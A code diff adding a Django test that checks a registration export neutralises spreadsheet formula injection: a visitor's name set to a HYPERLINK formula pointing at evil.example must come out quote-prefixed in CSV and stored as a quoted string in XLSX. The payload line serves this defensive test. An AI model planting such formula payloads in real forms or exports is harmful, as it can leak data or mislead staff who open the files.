@@ -95,3 +95,32 @@ def test_event_page_shows_baghdad_time(client, homes):
 
     assert "10 December 2026, 10:00" in " ".join(response.text.split())
     assert "Baghdad time" in response.text
+
+
+def test_registrations_export_quotes_what_a_visitor_typed_as_a_formula(client, event):
+    """Anyone may register, so the organisers' CSV must not run what a visitor typed."""
+    import csv
+    import io
+
+    from django.contrib.auth import get_user_model
+    from openpyxl import load_workbook
+
+    from tests.conftest import sign_in_staff
+
+    formula = '=HYPERLINK("http://evil.example/?x","open")'
+    client.post(f"{event.url}register/", {"full_name": formula, "email": "x@example.org"})
+    get_user_model().objects.create_superuser(email="root@example.com", password="x" * 12)
+    sign_in_staff(client, "root@example.com")
+    url = f"/admin/forms/submissions/{event.pk}/"
+
+    response = client.get(url, {"export": "csv"})
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    workbook = load_workbook(io.BytesIO(b"".join(
+        client.get(url, {"export": "xlsx"}).streaming_content)))
+
+    row = list(csv.reader(io.StringIO(content)))[1]
+    assert "'" + formula in row
+    assert formula not in row
+    cell = next(cell for line in workbook.worksheets[0].iter_rows() for cell in line
+                if cell.value == formula)
+    assert cell.data_type == "s" and cell.quotePrefix
